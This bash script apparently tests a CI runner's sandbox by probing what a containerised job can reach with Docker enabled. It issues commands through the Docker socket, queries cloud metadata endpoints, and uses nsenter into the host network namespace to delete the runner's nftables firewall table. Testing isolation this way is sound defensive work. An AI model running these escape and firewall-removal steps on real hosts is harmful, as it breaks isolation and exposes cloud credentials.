# shellcheck shell=bash disable=SC2154
# What a job tries from a container, where allowDocker is on. The stand-in of docker runs each command in one on a bridge.
container() { python3 -c '
import shlex, socket, sys
s = socket.socket(socket.AF_UNIX)
s.connect("/run/docker.sock")
s.sendall(shlex.join(sys.argv[1:]).encode())
s.shutdown(socket.SHUT_WR)
print(s.makefile().read())' "$@"; }

tell groups "$(id -nG)"
tell sudo "$(sudo -n true 2>&1; echo "exit $?")"
tell network "$(container curl --silent --max-time 3 http://10.0.0.2:8000/tell/container)"
tell metadata "$(container "${ask[@]}" "$metadata")"
tell metadata-ipv6 "$(container "${ask[@]}" "$metadata6")"
tell open-firewall "$(container nsenter --net=/proc/1/ns/net nft delete table inet ephemeral_runner)"
tell metadata-hop "$(container "${ask[@]}" "$metadata")"
tell metadata-hop-ipv6 "$(container "${ask[@]}" "$metadata6")"
tell metadata-host-network "$(container nsenter --net=/proc/1/ns/net "${ask[@]}" "$metadata")"
